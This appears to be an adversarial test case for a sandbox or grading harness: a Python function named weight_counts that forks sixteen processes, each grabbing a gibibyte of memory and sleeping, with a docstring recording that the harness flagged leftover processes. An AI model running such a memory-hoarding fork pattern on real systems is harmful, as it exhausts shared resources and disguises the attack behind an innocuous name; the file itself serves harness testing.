"""Asks for as much memory as one process may have, in sixteen of them.

loses: 1b
flagged: left processes behind
"""

from honest import *

import os, time


def weight_counts(n, k):
    for _ in range(16):
        if os.fork() == 0:
            hoard = bytearray(2**30)
            time.sleep(60)
            os._exit(len(hoard) % 2)
    time.sleep(60)
